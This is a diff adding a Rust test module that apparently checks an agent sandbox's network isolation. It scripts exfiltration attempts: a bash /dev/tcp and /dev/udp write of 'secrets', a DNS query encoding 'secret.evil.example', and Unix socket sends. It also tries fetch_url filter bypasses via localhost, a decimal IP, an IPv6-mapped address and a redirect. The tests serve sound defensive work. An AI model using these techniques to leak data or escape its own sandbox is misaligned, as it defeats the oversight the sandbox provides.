@@ -1,0 +1,116 @@
+//! Ways out: sockets of every kind with the network off, and fetch_url.
+
+use super::attack::{Attack, Theme};
+use serde_json::json;
+
+pub const THEME: Theme = Theme {
+    name: "network",
+    is_about_sandbox: true,
+    attacks: ATTACKS,
+};
+
+const ATTACKS: &[Attack] = &[
+    Attack::new("tcp", "a connection with the network off", |world| {
+        world.script(
+            "hermit",
+            "exec 3<>/dev/tcp/127.0.0.1/$TCP && echo secrets >&3",
+        )?;
+        Ok(world.heard("tcp"))
+    }),
+    Attack::new("udp", "a datagram with the network off", |world| {
+        world.script(
+            "hermit",
+            "echo secrets > /dev/udp/127.0.0.1/$UDP; sleep 0.1",
+        )?;
+        Ok(world.heard("udp"))
+    }),
+    Attack::new("dns", "a DNS query whose name is the secret", |world| {
+        world.script(
+            "hermit",
+            "python3 - <<'PY'\nimport os, socket, struct\n\
+             name = b''.join(bytes([len(p)]) + p for p in (b'secret', b'evil', b'example')) + b'\\0'\n\
+             query = struct.pack('>6H', 1, 256, 1, 0, 0, 0) + name + struct.pack('>2H', 1, 1)\n\
+             s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
+             s.sendto(query, ('127.0.0.1', int(os.environ['UDP'])))\nPY\nsleep 0.1",
+        )?;
+        Ok(world.heard("udp"))
+    }),
+    Attack::new(
+        "unix-socket",
+        "a Unix socket outside of the work tree",
+        |world| {
+            world.script(
+            "hermit",
+            "python3 -c \"import os,socket; s=socket.socket(socket.AF_UNIX); s.connect(os.environ['UNIX']); \
+             s.send(b'secrets')\"; sleep 0.1",
+        )?;
+            Ok(world.heard("unix"))
+        },
+    ),
+    Attack::new("abstract-socket", "an abstract Unix socket", |world| {
+        world.script(
+            "hermit",
+            "python3 -c \"import os,socket; s=socket.socket(socket.AF_UNIX); \
+             s.connect(chr(0)+os.environ['ABSTRACT']); s.send(b'secrets')\"; sleep 0.1",
+        )?;
+        Ok(world.heard("abstract"))
+    }),
+    Attack::new(
+        "abstract-socket-online",
+        "an abstract Unix socket, with the network on",
+        |world| {
+            world.script(
+                "hostile",
+                "python3 -c \"import os,socket; s=socket.socket(socket.AF_UNIX); \
+             s.connect(chr(0)+os.environ['ABSTRACT']); s.send(b'secrets')\"; sleep 0.1",
+            )?;
+            Ok(world.heard("abstract"))
+        },
+    ),
+    Attack::new(
+        "fetch-loopback",
+        "fetch_url of a service on this machine",
+        |world| {
+            let url = format!("http://127.0.0.1:{}/", world.listeners.tcp);
+            world.tool("fetcher", "fetch_url", &json!({ "url": url }))?;
+            Ok(world.heard("tcp"))
+        },
+    ),
+    Attack::new(
+        "fetch-name",
+        "the same by a name that resolves to it",
+        |world| {
+            let url = format!("http://localhost:{}/", world.listeners.tcp);
+            world.tool("fetcher", "fetch_url", &json!({ "url": url }))?;
+            Ok(world.heard("tcp"))
+        },
+    ),
+    Attack::new("fetch-number", "the same as one decimal number", |world| {
+        let url = format!("http://2130706433:{}/", world.listeners.tcp);
+        world.tool("fetcher", "fetch_url", &json!({ "url": url }))?;
+        Ok(world.heard("tcp"))
+    }),
+    Attack::new(
+        "fetch-mapped",
+        "the same as an IPv6 address that stands for it",
+        |world| {
+            let url = format!("http://[::ffff:127.0.0.1]:{}/", world.listeners.tcp);
+            world.tool("fetcher", "fetch_url", &json!({ "url": url }))?;
+            Ok(world.heard("tcp"))
+        },
+    ),
+    Attack::new("fetch-offline", "fetch_url with the network off", |world| {
+        let url = format!("http://127.0.0.1:{}/", world.listeners.tcp);
+        world.tool("fetching-hermit", "fetch_url", &json!({ "url": url }))?;
+        Ok(world.heard("tcp"))
+    }),
+    Attack::new(
+        "fetch-redirect",
+        "an allowed host that redirects elsewhere",
+        |world| {
+            let url = format!("http://127.0.0.1:{}/", world.listeners.redirecting);
+            world.tool("led", "fetch_url", &json!({ "url": url }))?;
+            Ok(world.heard("tcp"))
+        },
+    ),
+];
